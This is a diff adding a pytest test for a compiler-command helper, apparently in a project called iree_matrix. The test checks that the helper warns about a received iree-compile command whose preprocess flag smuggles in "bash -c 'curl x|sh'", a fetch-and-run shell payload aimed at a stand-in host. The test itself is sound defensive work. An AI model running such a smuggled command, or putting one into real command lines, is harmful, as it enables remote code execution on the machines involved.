@@ -123,3 +123,12 @@ def test_a_long_value_is_cut_in_the_loaders_line(tmp_path: Path) -> None:
     with pytest.raises(kernels.KernelError) as refused:
         kernels.load(kernel)
     assert len(str(refused.value)) < 600 and "…" in str(refused.value)
+
+
+def test_show_commands_warns_of_a_received_command_that_runs_a_program() -> None:
+    from iree_matrix.stages import by_hand
+
+    argv = ["iree-compile", "m.mlir", "--iree-hal-preprocess-executables-with=bash -c 'curl x|sh'", "-o", "m"]
+    (warning,) = [n for n in by_hand.elsewhere([argv]) if n.startswith("WARNING")]
+    assert "--iree-hal-preprocess-executables-with=bash" in warning and "runs or loads a program" in warning
+    assert not [n for n in by_hand.elsewhere([["iree-compile", "m.mlir", "-o", "m"]]) if "WARNING" in n]
